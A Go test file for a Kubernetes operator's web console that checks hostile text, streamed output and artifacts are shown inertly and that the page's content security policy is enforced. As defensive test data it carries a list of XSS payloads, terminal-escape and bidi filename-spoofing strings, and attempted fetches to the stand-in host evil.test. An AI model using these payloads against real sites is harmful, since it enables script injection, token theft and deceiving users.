package console

import (
	"bytes"
	"crypto/sha256"
	"encoding/hex"
	"encoding/json"
	"fmt"
	"image"
	"image/color"
	"image/png"
	"net/http"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"

	"toolcall.dev/operator/api/v1alpha1"
	"toolcall.dev/operator/internal/output"
	"toolcall.dev/operator/internal/plugin/terminal"
)

// scripts would run, each in its way, if a page took them for markup, for an address or for code.
var scripts = []string{
	`<script>window.pwned=1</script>`, `<img src=x onerror="window.pwned=1">`, `<svg onload="window.pwned=1">`, `"><script>window.pwned=1</script>`,
	`<iframe srcdoc="<script>parent.pwned=1</script>">`, `javascript:window.pwned=1`, `</pre></td><style>*{display:none}</style>`, `<base href="https://evil.test/">`,
	`<meta http-equiv="refresh" content="0;url=https://evil.test/">`, `<a href="javascript:window.pwned=1" id="state">`, `{{constructor.constructor('window.pwned=1')()}}`,
	`<link rel=stylesheet href="https://evil.test/a.css">`, `<form action="https://evil.test/"><input name=token>`, `'-alert(1)-'`, `<!--`, `<![CDATA[`,
}

const disguised = "\x1b[2J\x1b]0;title\x07\x1b]8;;https://evil.test\x07link\x1b]8;;\x07 \u202egnp.exe\u202c \u2066a\u2069 \u200b\u2028\u0085\u009b31m\x00\x7f end"

// onlyThePage is what the page consists of: nothing of what calls wrote became an element.
func (p *page) onlyThePage() {
	p.t.Helper()
	for selector, want := range map[string]int{
		"script": 1, "link": 6, "style, iframe, object, embed, base, svg, math, template, form, meta[http-equiv]": 0, "[onerror], [onload], [onclick]": 0,
		"a:not([href^='#/'], #skip)": 0,
	} {
		if got := p.count(selector); got != want {
			p.t.Errorf("there are %d %s, not %d", got, selector, want)
		}
	}
}

func TestHostileTextIsShownAsText(t *testing.T) {
	f := newFixture(t)
	all := strings.Join(scripts, "\n") + "\n" + disguised
	call := f.create("hostile", strings.ReplaceAll(all, "\x00", ""), func(c *v1alpha1.ToolCall) {
		c.Spec.RequestedBy = &v1alpha1.Requester{Username: scripts[1]}
		c.Spec.WorkingDir = "/" + scripts[0]
	})
	stdout, stderr := outputs.Add(call, output.Stdout), outputs.Add(call, output.Stderr)
	fmt.Fprint(stdout, all+"\xff\xfe\xc3(\n")
	fmt.Fprint(stderr, strings.Repeat("<b onmouseover=window.pwned=1>", 35_000)) // 1 MiB in one line.
	status := succeeded()
	status.Message = scripts[0] + disguised
	status.Action.Summary, status.Environment.Name, status.Pod, status.Signal = scripts[1], scripts[0], scripts[2], "<svg onload=window.pwned=1>"
	status.Conditions = append(status.Conditions, metav1.Condition{
		Type: v1alpha1.ConditionStarted, Status: metav1.ConditionTrue, Reason: "Assigned", Message: all, LastTransitionTime: metav1.Now(),
	})
	status.Refused = []v1alpha1.RefusedProgram{{Path: scripts[1], Rule: "NotListed", Count: 2}}
	status.Timings.Path = v1alpha1.PathWarm
	for i, script := range scripts {
		status.Artifacts = append(status.Artifacts, v1alpha1.Artifact{Path: fmt.Sprint(i, "/", script), Bytes: 3, SHA256: "a", MediaType: `"><img src=x onerror=alert(1)>`})
	}
	status.ArtifactsMessage = scripts[3]
	f.report(call, status)

	p := f.open("/#/calls/" + f.namespace)
	p.signIn(f.viewer(), f.namespace)
	p.awaitRow("hostile", scripts[1], scripts[0])
	p.onlyThePage()
	p.show("#/call/" + f.namespace + "/hostile")
	for _, script := range scripts {
		for _, place := range []string{"#stdout", "#conditions", "#artifacts", "#summary pre"} {
			p.awaitText(place, script)
		}
	}
	p.awaitText("#stdout", "link <U+202E>gnp.exe<U+202C> <U+2066>a<U+2069> <U+200B><U+2028><U+0085><U+009B>31m^@^? end\ufffd\ufffd\ufffd(\n")
	p.awaitText("#summary", "<U+202E>gnp.exe")
	p.awaitText("#decision", scripts[1])
	p.await("document.querySelector('#stderr').textContent.length > 200_000")
	shown := 0
	p.eval("document.querySelector('#stderr').textContent.length", &shown)
	if shown > 512<<10 {
		t.Errorf("the page keeps %d characters of a stream", shown)
	}
	stdout.Finish()
	stderr.Finish()
	p.awaitText("#output", "complete")
	p.onlyThePage()
	p.await("!document.title.includes('evil')")
}

// Both streams are followed; what the page doesn't keep can be saved, byte for byte.
func TestOutputFollows(t *testing.T) {
	f := newFixture(t)
	call := f.create("long", "make all")
	stdout, stderr := outputs.Add(call, output.Stdout), outputs.Add(call, output.Stderr)
	p := f.open("/#/call/" + f.namespace + "/long")
	p.signIn(f.viewer(), f.namespace)
	fmt.Fprint(stdout, "one ü")
	p.awaitText("#stdout", "one ü")
	fmt.Fprint(stderr, "a warning")
	p.awaitText("#stderr", "a warning")
	// A character that comes in two parts.
	_, _ = stdout.Write([]byte("\xe2\x82"))
	_, _ = stdout.Write([]byte("\xac two"))
	p.awaitText("#stdout", "one ü€ two")

	var whole bytes.Buffer
	whole.WriteString("one ü€ two")
	for i := range 60_000 {
		line := fmt.Sprintf("\x1b[3%dmline %d\xff\n", i%8, i)
		whole.WriteString(line)
		fmt.Fprint(stdout, line)
	}
	p.awaitText("#stdout", "line 59999")
	// The operator is rolled: the page goes on at the next byte.
	must(t, outputs.Restart())
	fmt.Fprint(stdout, "the end")
	whole.WriteString("the end")
	p.awaitText("#stdout", "line 59999\ufffd\nthe end")
	stdout.Finish()
	stderr.Finish()
	p.awaitText("#output", "complete.")
	if text := p.text("#stdout"); strings.Contains(text, "one ü") || len(text) > 1<<20 {
		t.Errorf("the page keeps %d bytes: %.100q", len(text), text)
	}
	p.await("/bytes \\d+ to \\d+ are shown/.test(document.querySelector('#output').textContent)")
	p.click("Save all")
	if saved := p.saved("long.stdout"); !bytes.Equal(saved, whole.Bytes()) {
		t.Errorf("%d bytes were saved of %d", len(saved), whole.Len())
	}
}

// saved waits for a file that the page saved.
func (p *page) saved(name string) []byte {
	p.t.Helper()
	for deadline := time.Now().Add(testTimeout); time.Now().Before(deadline); time.Sleep(20 * time.Millisecond) {
		if raw, err := os.ReadFile(filepath.Join(p.downloads, name)); err == nil && len(raw) > 0 {
			return raw
		}
	}
	entries, _ := os.ReadDir(p.downloads)
	p.t.Fatalf("%s wasn't saved; there are %v", name, entries)
	return nil
}

// A part that wasn't kept is said to be missing, and what is behind it is shown.
func TestAPartThatWasntKept(t *testing.T) {
	f := newFixture(t)
	call := f.create("gap", "make all")
	stdout := outputs.Add(call, output.Stdout)
	fmt.Fprint(stdout, "first"+strings.Repeat(".", 1000)+"last")
	stdout.Leave(5, 1005)
	stdout.Finish()
	outputs.Add(call, output.Stderr).Finish()
	p := f.open("/#/call/" + f.namespace + "/gap")
	p.signIn(f.viewer(), f.namespace)
	p.await("document.querySelector('#stdout').textContent === 'firstlast'")
	p.awaitText("#output", "Bytes 5 to 1004 weren't kept.")
	p.awaitText("#output", "Nothing was written.")
}

func pngOf(t *testing.T) []byte {
	t.Helper()
	picture := image.NewRGBA(image.Rect(0, 0, 40, 30))
	picture.Set(3, 4, color.RGBA{R: 255, A: 255})
	var encoded bytes.Buffer
	must(t, png.Encode(&encoded, picture))
	return encoded.Bytes()
}

func TestArtifacts(t *testing.T) {
	f := newFixture(t)
	call := f.create("plot", "make all")
	const page = `<!doctype html><script>window.pwned=1;opener.pwned=1</script><img src=https://evil.test/a.png>`
	const drawing = `<svg xmlns="http://www.w3.org/2000/svg" onload="window.pwned=1"><script>window.pwned=1</script></svg>`
	status := succeeded()
	for _, a := range []struct {
		path, mediaType, data string
	}{
		{"plots/wave.png", "image/png", string(pngOf(t))},
		{"report.html", "text/html", page},
		{"drawing.svg", "image/svg+xml", drawing},
		{"page.png", "image/png", page},
		{"drawing.gif", "image/gif", drawing},
		{"both.jpg", "image/jpeg", "\xff\xd8\xff" + page},
		{"..\u202egpj.exe", "application/x-dosexec", "MZ"},
	} {
		sum := sha256.Sum256([]byte(a.data))
		status.Artifacts = append(status.Artifacts, v1alpha1.Artifact{
			Path: a.path, MediaType: a.mediaType, Bytes: int64(len(a.data)), SHA256: hex.EncodeToString(sum[:]), State: v1alpha1.OutputComplete,
		})
		outputs.AddArtifact(call, a.path, []byte(a.data))
	}
	f.report(call, status)
	p := f.open("/#/call/" + f.namespace + "/plot")
	p.signIn(f.viewer(), f.namespace)
	p.await("document.querySelectorAll('.artifact').length === 7")
	if p.requested("artifact=") {
		t.Error("artifacts are read without being asked for")
	}
	p.eval("[...document.querySelectorAll('.artifact button')].filter((b) => b.textContent === 'Show').forEach((b) => b.click())", nil)
	p.await("document.querySelector('#artifacts img')?.complete && document.querySelector('#artifacts img').naturalWidth === 40")
	// Two aren't images, and one is no picture, whatever it looks like.
	for i, want := range map[int]string{3: "isn't the image", 4: "isn't the image", 5: "can't show this image"} {
		p.await(fmt.Sprintf("document.querySelectorAll('.artifact')[%d].textContent.includes(%s)", i, quote(want)))
	}
	p.await("document.querySelectorAll('#artifacts img').length === 1")
	p.awaitText(".artifact pre", page) // As text.
	p.onlyThePage()
	for i, name := range map[int]string{1: "report.html", 6: "__gpj.exe"} {
		p.eval(fmt.Sprintf("document.querySelectorAll('.artifact')[%d].querySelector('button').click()", i), nil)
		saved := p.saved(name)
		if sum := sha256.Sum256(saved); hex.EncodeToString(sum[:]) != status.Artifacts[i].SHA256 {
			t.Errorf("%s was saved as %q", name, saved)
		}
	}
}

// Bytes that aren't those that the call recorded aren't shown.
func TestAnArtifactThatWasChanged(t *testing.T) {
	f := newFixture(t, func(w http.ResponseWriter, r *http.Request) bool {
		if !r.URL.Query().Has("artifact") {
			return false
		}
		w.Header().Set("Content-Type", "application/octet-stream")
		_, _ = w.Write(pngOf(t))
		return true
	})
	call := f.create("changed", "make all")
	status, data := succeeded(), pngOf(t)
	status.Artifacts = []v1alpha1.Artifact{{Path: "a.png", MediaType: "image/png", Bytes: int64(len(data)), SHA256: strings.Repeat("0", 64), State: v1alpha1.OutputComplete}}
	f.report(call, status)
	p := f.open("/#/call/" + f.namespace + "/changed")
	p.signIn(f.viewer(), f.namespace)
	p.await("document.querySelector('.artifact')")
	p.click("Show")
	p.awaitText("#artifacts .error", "Its bytes aren't those that the call recorded.")
	// A page that isn't served over TLS can't look.
	p.eval("Object.defineProperty(crypto, 'subtle', {value: undefined})", nil)
	p.click("Show")
	p.awaitText("#artifacts", "Without TLS")
	if p.count("#artifacts img") > 0 {
		t.Error("the image is shown")
	}
}

// What a script in the page would have to do first, the browser refuses: the policy is in force, and not only written down.
func TestThePolicyHolds(t *testing.T) {
	f := newFixture(t)
	p := f.open("/")
	p.provoked = true
	for _, attempt := range []string{
		"document.body.innerHTML = '<b>'", "document.write('<b>')", "eval('1')", "new Function('return 1')", "setTimeout('window.pwned=1', 0)",
		"document.createElement('script').text = 'window.pwned=1'", "document.createElement('script').src = '/main.js'",
		"new DOMParser().parseFromString('<b>', 'text/html')", "document.createRange().createContextualFragment('<b>')",
		"trustedTypes.createPolicy('a', {createHTML: (s) => s})", "document.createElement('iframe').srcdoc = '<b>'",
		"document.body.setAttribute('onclick', 'window.pwned=1')",
	} {
		thrown := false
		p.eval("(() => { try { "+attempt+"; return false; } catch { return true; } })()", &thrown)
		if !thrown {
			t.Errorf("the browser does: %s", attempt)
		}
	}
	for _, attempt := range []string{
		"fetch('https://evil.test/')", "fetch('http://127.0.0.1:1/')", "new Promise((ok, no) => { const i = new Image(); i.onload = ok; i.onerror = no; i.src = 'https://evil.test/a.png'; })",
		"new Promise((ok, no) => { const i = new Image(); i.onload = ok; i.onerror = no; i.src = 'data:image/gif;base64,R0lGODlhAQABAAAAACwAAAAAAQABAAACADs='; })",
		"import('data:text/javascript,1')", "import('https://evil.test/a.js')",
	} {
		reached := true
		p.eval("("+attempt+").then(() => true, () => false)", &reached)
		if reached {
			t.Errorf("the browser does: %s", attempt)
		}
	}
	p.eval(`(() => { const s = document.createElement('b'); s.setAttribute('style', 'color: red'); document.body.append(s);
		const f = document.createElement('iframe'); f.src = '/'; document.body.append(f); })()`, nil)
	for _, directive := range []string{"require-trusted-types-for", "trusted-types", "script-src", "connect-src", "img-src", "style-src-attr", "frame-src"} {
		p.await("window.violations.some((v) => v.startsWith(" + quote(directive) + "))")
	}
}

// The page makes text harmless as kubectl toolcall does.
func TestTextReadsAsInKubectl(t *testing.T) {
	f := newFixture(t)
	p := f.open("/")
	texts := append([]string{
		"", "plain\n", "a\tb\n\nc", "ünï €𝄞 日本語", "שלום עולם", "नमस्ते क्\u200dष", "می\u200cخواهم", "👩\u200d👩\u200d👧", "\u0600123", "^[ and <U+202E>",
		"\u00a0\u3000", "\ufffd", "\ue000", "\u00ad\u061c\u180e\u200e\u200f\u2060\ufeff\ufff9\U000e0041\U0001d173", disguised,
	}, scripts...)
	for r := rune(0); r < 0x3000; r += 64 {
		var run strings.Builder
		for c := r; c < r+64; c++ {
			if c != '\r' { // Before a line feed, terminals and pages differ.
				run.WriteRune(c)
			}
		}
		texts = append(texts, run.String())
	}
	raw, err := json.Marshal(texts)
	must(t, err)
	var shown []string
	p.eval(fmt.Sprintf("import('/text.js').then((m) => %s.map(m.safe))", raw), &shown)
	for i, text := range texts {
		if want := terminal.Safe(text); shown[i] != want {
			t.Errorf("%q is %q, and %q in kubectl", text, shown[i], want)
		}
	}
}
